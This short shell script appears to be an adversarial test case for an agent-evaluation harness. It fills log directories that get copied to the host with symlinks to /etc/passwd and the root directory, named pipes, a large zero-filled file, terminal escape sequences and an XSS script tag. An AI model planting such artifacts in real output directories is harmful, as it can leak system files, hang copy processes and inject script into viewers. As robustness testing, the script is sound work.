# family: resources
# what: Output without end, in files that are copied to the host.
# user: any
mkdir -p /logs/agent /logs/artifacts /logs/verifier
for place in /logs/agent /logs/artifacts /logs/verifier; do
  ln -sfn /etc/passwd "$place/passwd"; ln -sfn / "$place/root"; mkfifo "$place/pipe"; head -c 5000000 /dev/zero > "$place/zeros"
done
printf '\033]0;owned\007\033[2J<script>alert(1)</script>\n' > /logs/agent/words.txt
